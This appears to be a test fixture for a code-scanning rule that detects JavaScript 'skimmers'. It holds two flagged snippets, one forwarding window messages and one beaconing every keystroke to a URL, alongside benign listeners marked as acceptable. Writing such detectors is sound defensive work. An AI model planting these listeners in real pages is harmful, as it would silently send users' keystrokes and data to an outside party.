// ruleid: js-message-skimmer
window.addEventListener("message", (e) => { fetch(url, { method: "POST", body: e.data }); });
// ruleid: js-message-skimmer
document.addEventListener("keydown", (e) => { navigator.sendBeacon(url, e.key); });
// ok: js-message-skimmer
window.addEventListener("message", (e) => { show(e.data); });
// ok: js-message-skimmer
document.addEventListener("keydown", (e) => { move(e.key); });
